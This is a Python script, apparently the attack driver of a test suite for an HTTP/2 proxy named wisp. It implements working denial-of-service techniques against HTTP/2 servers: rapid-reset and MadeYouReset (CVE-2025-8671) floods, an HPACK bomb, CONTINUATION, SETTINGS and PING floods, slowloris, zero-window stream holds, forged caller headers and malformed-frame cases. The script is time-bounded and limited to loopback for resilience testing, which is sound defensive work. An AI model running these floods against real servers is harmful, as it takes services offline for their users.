#!/usr/bin/python3
"""Hostile HTTP/2 callers for wisp's attack suite (issue 9), loopback only.

  attack.py NAME --port P [--seconds S] [options]

Every attack is bounded in time (--seconds, at most 30) and in connections,
and ends by closing what it opened. It prints one summary line
  attack NAME: key=value ...
and exits 0: the test judges the proxy (alive, /healthz, RSS, log, the good
client beside it), not the attacker. NAMEs:

  rapid-reset   HEADERS+RST_STREAM(CANCEL) pairs as fast as the proxy reads
                them, on --conns connections; reconnects after GOAWAY
  hold          --conns x --streams requests to --path (one that never
                answers), held open
  zero-window   SETTINGS_INITIAL_WINDOW_SIZE 0 and never a WINDOW_UPDATE,
                --streams requests for --path (a large response) per connection
  idle          --conns connections that send the preface (--no-preface:
                nothing) and then nothing; --tls CERT KEY CA for mTLS
  slow-reset    batches of requests to --path (a slow one), then, once the
                proxy has sent them upstream, RST_STREAM(CANCEL) for each:
                resets that reach the upstream side (a peer sidecar's pooled
                connection); reconnects after GOAWAY
  made-you-reset
                never sends RST_STREAM but makes the proxy reset its streams
                (MadeYouReset, CVE-2025-8671): batches of requests to --path
                (a slow one), then, once the proxy has sent them upstream, a
                frame that breaks each stream: DATA past content-length,
                WINDOW_UPDATE 0, a stream window overflow, trailers with a
                pseudo-header (in turn, a kind per batch); reconnects after
                GOAWAY
  close-reset   --streams requests to --path on a new connection, closed
                (TCP) with them open --close-after seconds later, and again
  continuation  HEADERS then endless CONTINUATION frames
  settings-flood, ping-flood
                frames that each demand an ACK, never reading the ACKs
  hpack-bomb    a 4 KB header in the dynamic table referenced by 1-byte
                indexes (a 16 KB block that decodes to 64 MB)
  busy          --conns connections, each keeping --streams requests for
                --path in flight (one answered, the next sent), so the
                route's upstream streams stay taken by these callers
  header-hold   like zero-window (window 0, --streams requests for --path
                held open), each request's headers and trailers decoding
                to just under 60 KiB from a few wire bytes (a 4 KB header in
                the dynamic table referenced by 1-byte indexes)
  slowloris     --conns connections trickling the preface or a header block
                one byte at a time
  invalid       a catalogue of protocol violations, each on a new connection
  stall         --conns connections, each opening --streams POSTs to --path
                (HEADERS without END_STREAM), then sending nothing; reports
                how each stream was answered (its :status, or a reset),
                when the last answer came, how many complete answers were
                followed by RST_STREAM(NO_ERROR) and how many streams were
                reset with an error code
  drip          one POST to --path whose body is 1 byte every --interval s
                until --seconds, then its end; reports the answer's status,
                body and whether the stream was reset (an active stream)

--source 127.0.0.N connects from another loopback address: a caller of its
own to the proxy's per-source limits.
--caller-tags N (slow-reset, made-you-reset, data-after-es): each request
names one of N callers in x-wisp-caller, as a peer sidecar's do.
"""
import argparse
import os
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import wire  # noqa: E402

MAX_SECONDS = 30
MAX_CONNS = 5000


def report(name, **kv):
    print(f"attack {name}: " + " ".join(f"{k}={v}" for k, v in kv.items()), flush=True)


def opening(extra_settings=()):
    return wire.PREFACE + wire.settings(extra_settings)


class Deadline:
    def __init__(self, seconds):
        self.end = time.monotonic() + min(seconds, MAX_SECONDS)

    def left(self):
        return self.end - time.monotonic()

    def __bool__(self):
        return self.left() > 0


def on_threads(args, name, totals, session):
    """On --conns threads until the deadline: connect, session(sock, dl,
    counters), close, reconnect. Each thread counts in its own copy of
    |totals| ("connections" and "refused" kept here); the sums are
    reported as attack NAME."""
    dl = Deadline(args.seconds)
    lock = threading.Lock()
    tls = wire.mtls_context(*args.tls) if args.tls else None

    def run():
        local = dict.fromkeys(totals, 0)
        while dl:
            try:
                s = wire.connect(args.port, tls=tls, timeout=2, source=args.source)
            except OSError:
                local["refused"] += 1
                time.sleep(0.05)
                continue
            local["connections"] += 1
            session(s, dl, local)
            wire.close(s)
        with lock:
            for k, v in local.items():
                totals[k] += v

    threads = [threading.Thread(target=run, daemon=True) for _ in range(args.conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(MAX_SECONDS + 5)
    report(name, seconds=args.seconds, conns=args.conns, **totals)


def reconnecting_flood(args, name, first, batch):
    """On --conns threads: open a connection, send |first|, then batch(i)
    (i counts batches on the connection) until the peer closes or sends
    GOAWAY, then reconnect; all until the deadline."""

    def session(s, dl, local):
        rd = wire.Reader()
        n = wire.send_some(s, first, min(1.0, max(0.0, dl.left())))
        i = 0
        while n >= 0 and dl and rd.goaway is None:
            n = wire.send_some(s, batch(i), min(0.5, max(0.0, dl.left())))
            if n > 0:
                local["bytes"] += n
                local["batches"] += 1
            i += 1
            if not wire.drain(s, rd if not args.no_read else None):
                break
        if rd.goaway is not None:
            local["goaways"] += 1

    totals = {"connections": 0, "bytes": 0, "goaways": 0, "refused": 0, "batches": 0}
    on_threads(args, name, totals, session)


def rapid_reset(args):
    block = wire.request_block(args.path)
    per = 200

    def batch(i):
        first = 1 + 2 * per * i
        return b"".join(wire.headers(sid, block) + wire.rst(sid) for sid in range(first, first + 2 * per, 2))

    reconnecting_flood(args, "rapid-reset", opening(), batch)


def forged_caller(args, sid):
    """With --caller-tags N: an x-wisp-caller header naming caller 1..N in
    turn, as a peer sidecar tags the requests of the callers it multiplexes
    (any SVID holder can send them)."""
    if not args.caller_tags:
        return b""
    return wire.literal_new_name("x-wisp-caller", str(1 + (sid // 2) % args.caller_tags))


def two_phase_flood(args, name, kinds):
    """Batches of requests (--path), then, once the proxy has read them and
    sent them upstream, a frame for each that ends it; |kinds| are (opening
    block, end_stream, breaker(sid)), one kind per batch in turn."""
    per = 100  # the proxy's SETTINGS_MAX_CONCURRENT_STREAMS

    def batch(i):
        first = 1 + 2 * per * (i // 2)
        block, end_stream, breaker = kinds[(i // 2) % len(kinds)]
        sids = range(first, first + 2 * per, 2)
        if i % 2 == 0:
            return b"".join(wire.headers(sid, block + forged_caller(args, sid), end_stream=end_stream) for sid in sids)
        time.sleep(0.05)  # the proxy reads them and sends them upstream meanwhile
        return b"".join(breaker(sid) for sid in sids)

    reconnecting_flood(args, name, opening(), batch)


def slow_reset(args):
    two_phase_flood(args, "slow-reset", [(wire.request_block(args.path), True, wire.rst)])


def made_you_reset(args):
    get = wire.request_block(args.path)
    post = wire.request_block(args.path, method="POST")
    kinds = [
        # (opening block, end_stream, the frame that breaks stream sid)
        (post + wire.literal(28, "1"), False,  # content-length: 1, then 2 bytes
         lambda sid: wire.frame(wire.DATA, wire.END_STREAM, sid, b"xx")),
        (get, True, lambda sid: wire.window_update(sid, 0)),
        (get, True, lambda sid: wire.window_update(sid, 0x7FFFFFFF)),
        (post, False, lambda sid: wire.headers(sid, wire.literal(4, "/trailer"))),  # :path in trailers
    ]
    two_phase_flood(args, "made-you-reset", kinds)


def data_after_es(args):
    """Complete GETs, then DATA on each (half-closed) stream: nghttp2 ends
    the whole connection for it (a connection error, GOAWAY), with every
    stream already sent upstream."""
    get = wire.request_block(args.path)
    kinds = [(get, True, lambda sid: wire.frame(wire.DATA, 0, sid, b"x"))]
    two_phase_flood(args, "data-after-es", kinds)


def close_reset(args):
    """On --conns threads: a new connection, --streams requests to --path,
    and --close-after seconds later (once the proxy sent them upstream) a
    plain close() with them open (the proxy's unread frames make it a TCP
    RST), and again."""
    block = wire.request_block(args.path)
    first = opening() + b"".join(wire.headers(sid, block) for sid in range(1, 2 * args.streams, 2))

    def session(s, dl, local):
        if wire.send_some(s, first, min(1.0, max(0.0, dl.left()))) != len(first):
            return
        local["sent"] += args.streams
        time.sleep(min(args.close_after, max(0.0, dl.left())))

    on_threads(args, "close-reset", {"connections": 0, "refused": 0, "sent": 0}, session)


def continuation(args):
    junk = b"".join(wire.literal_new_name("x-junk-%d" % k, "j" * 200) for k in range(60))

    def batch(i):
        return b"".join(wire.frame(wire.CONTINUATION, 0, 1, junk) for _ in range(16))

    first = opening() + wire.headers(1, wire.request_block(args.path), end_stream=True, end_headers=False)
    reconnecting_flood(args, "continuation", first, batch)


def settings_flood(args):
    one = wire.settings([(wire.SETTINGS_MAX_CONCURRENT_STREAMS, 100)])
    args.no_read = True
    reconnecting_flood(args, "settings-flood", opening(), lambda i: one * 2000)


def ping_flood(args):
    one = wire.ping()
    args.no_read = True
    reconnecting_flood(args, "ping-flood", opening(), lambda i: one * 2000)


def hpack_bomb(args):
    value = "b" * 4000
    # Entry 62 is the newest dynamic-table entry: x-bomb, 4,000 bytes.
    seed = wire.request_block(args.path) + wire.literal_new_name("x-bomb", value, indexed=True)
    refs = wire.indexed(62) * 16000

    def batch(i):
        sid = 1 + 2 * i
        block = seed + refs
        frames = [wire.headers(sid, block[:16000], end_headers=False)]
        rest = block[16000:]
        while rest:
            chunk, rest = rest[:16000], rest[16000:]
            frames.append(wire.frame(wire.CONTINUATION, 0 if rest else wire.END_HEADERS, sid, chunk))
        return b"".join(frames)

    reconnecting_flood(args, "hpack-bomb", opening([(wire.SETTINGS_HEADER_TABLE_SIZE, 4096)]), batch)


BOMB_VALUE = "b" * 4000
BOMB_FIELD = len("x-bomb") + len(BOMB_VALUE) + 32  # what a field costs a decoder (RFC 7541 4.1)


def bomb_refs(budget):
    """1-byte references to dynamic-table entry 62 (the newest: x-bomb)
    decoding to at most |budget| bytes."""
    return wire.indexed(62) * (budget // BOMB_FIELD)


def header_hold(args):
    list_max = 60 * 1024  # wisp's default --max-header-list-size: each section stays under it
    block = wire.request_block(args.path)
    seed = wire.literal_new_name("x-bomb", BOMB_VALUE, indexed=True)  # first request: into the table
    frames = []
    for k, sid in enumerate(range(1, 2 * args.streams, 2)):
        head = block + (seed if k == 0 else b"") + bomb_refs(list_max - BOMB_FIELD - 200)
        frames.append(wire.headers(sid, head, end_stream=False))
        frames.append(wire.headers(sid, bomb_refs(list_max - 100), end_stream=True))  # trailers
    first = opening([(wire.SETTINGS_INITIAL_WINDOW_SIZE, 0)]) + b"".join(frames)
    socks, refused, dl = open_many(args, None)
    readers = []
    for s in socks:
        rd = wire.Reader()
        wire.send_some(s, first, min(2.0, max(0.0, dl.left())))
        wire.drain(s, rd)
        readers.append(rd)
    closed, alive = hold_open(socks, dl)
    report("header-hold", conns=len(socks), streams=len(socks) * args.streams, wire_bytes=len(first),
           decoded_per_stream=2 * list_max, refused=refused, resets_seen=sum(r.resets for r in readers),
           closed_by_peer=closed, alive_at_end=alive)


class EndReader(wire.Reader):
    """Also counts streams that ended (END_STREAM or RST_STREAM) and DATA
    bytes received (to give the window back)."""

    def __init__(self):
        super().__init__()
        self.ended = 0
        self.data_bytes = 0

    def on_frame(self, ftype, flags, payload):
        super().on_frame(ftype, flags, payload)
        if ftype == wire.DATA:
            self.data_bytes += len(payload)
        if ftype == wire.RST_STREAM or (ftype in (wire.DATA, wire.HEADERS) and flags & wire.END_STREAM):
            self.ended += 1


def busy(args):
    block = wire.request_block(args.path)

    def session(s, dl, local):
        rd = EndReader()
        sid, inflight = 1, 0
        out = opening([(wire.SETTINGS_INITIAL_WINDOW_SIZE, 1 << 24)]) + wire.window_update(0, 1 << 30)
        while dl and rd.goaway is None:
            while inflight < args.streams:
                out += wire.headers(sid, block)
                sid += 2
                inflight += 1
                local["sent"] += 1
            if rd.data_bytes:
                out += wire.window_update(0, rd.data_bytes)
                rd.data_bytes = 0
            n = wire.send_some(s, out, min(0.5, max(0.0, dl.left())))
            if n < 0:
                break
            out = out[n:]
            before = rd.ended
            if not wire.drain(s, rd, min(0.2, max(0.0, dl.left()))):
                break
            inflight -= rd.ended - before
            local["ended"] += rd.ended - before

    on_threads(args, "busy", {"connections": 0, "refused": 0, "sent": 0, "ended": 0}, session)


def open_many(args, first, tls=None):
    """Opens up to --conns connections (bounded by the deadline), each sent
    |first|; returns (sockets, refused)."""
    dl = Deadline(args.seconds)
    socks, refused = [], 0
    for _ in range(min(args.conns, MAX_CONNS)):
        if not dl:
            break
        try:
            s = wire.connect(args.port, tls=tls, timeout=2, source=args.source)
            if first:
                s.sendall(first)
            socks.append(s)
        except OSError:
            refused += 1
    return socks, refused, dl


def hold_open(socks, dl, step=None, tick=0.2):
    """Keeps |socks| open until the deadline, reading what the peer sends;
    step(i, sock) is called each round (every |tick| s). Returns how many
    the peer closed and how many are still open at the end."""
    alive = list(socks)
    closed = 0
    i = 0
    while dl and alive:
        still = []
        for s in alive:
            if wire.drain(s) and (step is None or step(i, s)):
                still.append(s)
            else:
                closed += 1
                wire.close(s)
        alive = still
        i += 1
        time.sleep(min(tick, max(0.0, dl.left())))
    for s in alive:
        wire.close(s)
    return closed, len(alive)



def idle(args):
    tls = wire.mtls_context(*args.tls) if args.tls else None
    socks, refused, dl = open_many(args, None if args.no_preface else opening(), tls)
    opened = len(socks)
    closed, alive = hold_open(socks, dl)
    report("idle", tls=bool(tls), opened=opened, refused=refused, closed_by_peer=closed,
           alive_at_end=alive)


def hold(args):
    block = wire.request_block(args.path)
    reqs = b"".join(wire.headers(sid, block) for sid in range(1, 2 * args.streams, 2))
    socks, refused, dl = open_many(args, opening() + reqs)
    closed, alive = hold_open(socks, dl)
    report("hold", conns=len(socks), streams=len(socks) * args.streams, refused=refused,
           closed_by_peer=closed, alive_at_end=alive)


def zero_window(args):
    block = wire.request_block(args.path)
    reqs = b"".join(wire.headers(sid, block) for sid in range(1, 2 * args.streams, 2))
    first = opening([(wire.SETTINGS_INITIAL_WINDOW_SIZE, 0)]) + reqs
    socks, refused, dl = open_many(args, first)
    closed, alive = hold_open(socks, dl)
    report("zero-window", conns=len(socks), streams=len(socks) * args.streams, refused=refused,
           closed_by_peer=closed, alive_at_end=alive)


def slowloris(args):
    """Half the connections trickle the preface, half a header block."""
    plan = {}
    block = wire.request_block(args.path)

    def step(i, s):
        data = plan[s]
        if i < len(data):
            return wire.send_some(s, data[i:i + 1], 0.1) >= 0
        return True

    socks, refused, dl = open_many(args, None)
    for k, s in enumerate(socks):
        if k % 2:
            plan[s] = wire.PREFACE + wire.settings()
        else:
            s.sendall(opening() + wire.headers(1, block[:4], end_stream=True, end_headers=False))
            plan[s] = wire.frame(wire.CONTINUATION, wire.END_HEADERS, 1, block[4:])
    closed, alive = hold_open(socks, dl, step)
    report("slowloris", opened=len(socks), refused=refused, closed_by_peer=closed, alive_at_end=alive)


class AnswerReader(wire.Reader):
    """Also decodes response headers (HPACK, hpack from python3-h2): the
    first answer of each stream, its :status or "reset", and when it came;
    and DATA bytes per stream."""

    def __init__(self):
        super().__init__()
        import hpack
        self.decoder = hpack.Decoder()
        self.block = b""
        self.answer = {}  # stream id -> status string, or "reset"
        self.when = {}  # stream id -> time.monotonic() of its answer
        self.body = {}  # stream id -> DATA bytes
        self.ended = set()  # streams ended by END_STREAM or RST_STREAM
        self.complete = set()  # streams whose answer ended with END_STREAM
        self.rst = {}  # stream id -> error code of its RST_STREAM

    def _answered(self, sid, what):
        if sid not in self.answer:
            self.answer[sid] = what
            self.when[sid] = time.monotonic()

    def on_frame(self, ftype, flags, payload):
        super().on_frame(ftype, flags, payload)
        sid = self.stream
        if ftype == wire.HEADERS:
            if flags & wire.PADDED:
                payload = payload[1:len(payload) - payload[0]]
            if flags & 0x20:  # PRIORITY
                payload = payload[5:]
            self.block = payload
        elif ftype == wire.CONTINUATION:
            self.block += payload
        elif ftype == wire.RST_STREAM:
            self._answered(sid, "reset")
            self.ended.add(sid)
            if len(payload) >= 4:
                self.rst[sid] = int.from_bytes(payload[:4], "big")
        elif ftype == wire.DATA:
            self.body[sid] = self.body.get(sid, b"") + payload
        if ftype in (wire.HEADERS, wire.CONTINUATION) and flags & wire.END_HEADERS:
            fields = dict(self.decoder.decode(self.block))
            self.block = b""
            if ":status" in fields and fields[":status"] != "100":
                self._answered(sid, fields[":status"])
        if ftype in (wire.DATA, wire.HEADERS) and flags & wire.END_STREAM:
            self.ended.add(sid)
            if sid not in self.rst:
                self.complete.add(sid)


def stall(args):
    block = wire.request_block(args.path, method="POST")
    sids = range(1, 2 * args.streams, 2)
    first = opening() + b"".join(wire.headers(sid, block, end_stream=False) for sid in sids)
    t0 = time.monotonic()
    socks, refused, dl = open_many(args, first, wire.mtls_context(*args.tls) if args.tls else None)
    readers = {s: AnswerReader() for s in socks}
    alive = list(socks)
    while dl and alive:
        for s in list(alive):
            if not wire.drain(s, readers[s], 0.0):
                alive.remove(s)
        time.sleep(min(0.1, max(0.0, dl.left())))
    seen, last, then_no_error, rst_error = {}, 0.0, 0, 0
    for rd in readers.values():
        for sid in sids:
            what = rd.answer.get(sid, "none")
            seen[what] = seen.get(what, 0) + 1
            if sid in rd.when:
                last = max(last, rd.when[sid] - t0)
            if sid in rd.complete and rd.rst.get(sid) == wire.NO_ERROR:
                then_no_error += 1
            elif rd.rst.get(sid, wire.NO_ERROR) != wire.NO_ERROR:
                rst_error += 1
    for s in socks:
        wire.close(s)
    report("stall", conns=len(socks), streams=len(socks) * args.streams, refused=refused,
           last_answer_s=f"{last:.1f}", complete_then_rst_no_error=then_no_error, rst_with_error=rst_error,
           **{f"answer_{k}": v for k, v in sorted(seen.items())})


def drip(args):
    dl = Deadline(args.seconds)
    s = wire.connect(args.port, tls=wire.mtls_context(*args.tls) if args.tls else None, source=args.source)
    rd = AnswerReader()
    s.sendall(opening() + wire.headers(1, wire.request_block(args.path, method="POST"), end_stream=False))
    sent = 0
    while dl and 1 not in rd.ended:
        if wire.send_some(s, wire.frame(wire.DATA, 0, 1, b"x"), 1.0) != 9 + 1:
            break
        sent += 1
        wire.drain(s, rd, min(args.interval, max(0.0, dl.left())))
    if 1 not in rd.ended:
        wire.send_some(s, wire.frame(wire.DATA, wire.END_STREAM, 1), 1.0)
    end = time.monotonic() + 5  # for the answer
    while 1 not in rd.ended and time.monotonic() < end and wire.drain(s, rd, 0.2):
        pass
    body = rd.body.get(1, b"").decode(errors="replace").strip().replace(" ", "_")
    wire.close(s)
    report("drip", sent=sent, status=rd.answer.get(1, "none"), body=body or "none")


# Each: bytes after the preface and SETTINGS. All are connection errors
# (RFC 9113) or must be ignored; none may crash or hang the proxy.
def _invalid_cases(path):
    block = wire.request_block(path)
    return {
        "data-on-stream-0": wire.frame(wire.DATA, 0, 0, b"x"),
        "headers-on-even-stream": wire.headers(2, block),
        "headers-on-stream-0": wire.headers(0, block),
        "oversized-frame": wire.frame(wire.DATA, 0, 1, b"x" * 20000),
        "window-update-zero": wire.window_update(0, 0),
        "window-overflow": wire.window_update(0, 0x7FFFFFFF) * 2,
        "settings-bad-push": wire.settings([(wire.SETTINGS_ENABLE_PUSH, 2)]),
        "settings-huge-window": wire.settings([(wire.SETTINGS_INITIAL_WINDOW_SIZE, 0x80000000)]),
        "settings-bad-frame-size": wire.settings([(wire.SETTINGS_MAX_FRAME_SIZE, 100)]),
        "settings-ack-with-payload": wire.frame(wire.SETTINGS, wire.ACK, 0, b"\0" * 6),
        "ping-wrong-length": wire.frame(wire.PING, 0, 0, b"x" * 7),
        "priority-self-dependency": wire.frame(wire.PRIORITY, 0, 1, b"\0\0\0\1\x10"),
        "rst-on-idle-stream": wire.rst(11),
        "continuation-without-headers": wire.frame(wire.CONTINUATION, wire.END_HEADERS, 1, block),
        "push-promise-from-client": wire.frame(wire.PUSH_PROMISE, wire.END_HEADERS, 1, b"\0\0\0\2" + block),
        "bad-padding": wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM | wire.PADDED, 1,
                                  bytes([255]) + block),
        "bad-hpack-index": wire.headers(1, wire.indexed(200)),
        "uppercase-header": wire.headers(1, block + wire.literal_new_name("X-Upper", "1")),
        "connection-header": wire.headers(1, block + wire.literal_new_name("connection", "close")),
        "data-after-end-stream": wire.headers(1, block) + wire.frame(wire.DATA, wire.END_STREAM, 1, b"x"),
        "unknown-frame-type": wire.frame(0xFA, 0, 0, b"ignored") + wire.headers(1, block),
        "goaway-then-headers": wire.frame(wire.GOAWAY, 0, 0, b"\0\0\0\0\0\0\0\0") + wire.headers(1, block),
        "garbage-preface": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    }


# Longer than wisp-proxy's default --queue-timeout (5 s), after which a
# request still waiting for an upstream stream is answered 503.
ANSWER_WAIT = 6.0


def invalid(args):
    cases = _invalid_cases(args.path)
    dl = Deadline(args.seconds)
    sent, answered, refused = 0, 0, 0
    silent = set()
    slowest = ("none", 0)
    rounds = 0
    while dl and rounds < 50:
        rounds += 1
        for name, bad in cases.items():
            if not dl:
                break
            try:
                s = wire.connect(args.port, timeout=2)
            except OSError:
                refused += 1
                continue
            rd = wire.Reader()
            first = bad if name == "garbage-preface" else opening() + bad
            if wire.send_some(s, first, 0.5) >= 0:
                sent += 1
            # The proxy answers (GOAWAY, RST_STREAM, a response) or closes.
            # A request it takes may wait for an upstream stream up to
            # --queue-timeout before its 503, so silence is judged after
            # ANSWER_WAIT; how long the slowest answer took is reported.
            t0 = time.monotonic()
            if wire.await_answer(s, rd, ANSWER_WAIT):
                answered += 1
                ms = int((time.monotonic() - t0) * 1000)
                if ms > slowest[1]:
                    slowest = (name, ms)
            else:
                silent.add(name)
            wire.close(s)
    report("invalid", cases=len(cases), rounds=rounds, sent=sent, answered_or_closed=answered,
           refused=refused, silent=",".join(sorted(silent)) or "none",
           slowest=f"{slowest[0]}:{slowest[1]}ms")


ATTACKS = {
    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "slow-reset": slow_reset, "data-after-es": data_after_es, "hold": hold, "zero-window": zero_window, "idle": idle,
    "continuation": continuation, "settings-flood": settings_flood, "ping-flood": ping_flood,
    "hpack-bomb": hpack_bomb, "slowloris": slowloris, "invalid": invalid, "header-hold": header_hold,
    "busy": busy, "stall": stall, "drip": drip, "close-reset": close_reset,
}


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--seconds", type=float, default=8.0)
    ap.add_argument("--conns", type=int, default=1)
    ap.add_argument("--streams", type=int, default=256)
    ap.add_argument("--path", default="/")
    ap.add_argument("--tls", nargs=3, metavar=("CERT", "KEY", "CA"))
    ap.add_argument("--source", help="connect from this loopback address (a caller of its own, e.g. 127.0.0.2)")
    ap.add_argument("--no-preface", action="store_true")
    ap.add_argument("--no-read", action="store_true")
    ap.add_argument("--interval", type=float, default=1.0, help="drip: seconds between body bytes")
    ap.add_argument("--close-after", type=float, default=0.05, help="close-reset: seconds before the close")
    ap.add_argument("--caller-tags", type=int, default=0,
                    help="x-wisp-caller values to send in turn (2: a forged peer sidecar)")
    args = ap.parse_args()
    if not 0 < args.seconds <= MAX_SECONDS or not 0 < args.conns <= MAX_CONNS:
        ap.error(f"--seconds must be in (0, {MAX_SECONDS}] and --conns in (0, {MAX_CONNS}]")
    ATTACKS[args.attack](args)


if __name__ == "__main__":
    main()
